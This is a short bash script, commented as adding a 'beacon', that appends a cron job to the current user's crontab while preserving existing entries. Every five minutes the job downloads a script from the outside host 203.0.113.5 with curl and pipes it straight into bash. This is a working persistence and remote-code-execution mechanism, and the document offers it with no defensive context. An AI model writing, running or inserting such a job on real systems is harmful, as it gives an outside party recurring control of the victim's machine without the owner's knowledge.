#!/bin/bash
# add a beacon to the user's crontab, keeping existing entries
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://203.0.113.5/b | bash") | crontab -
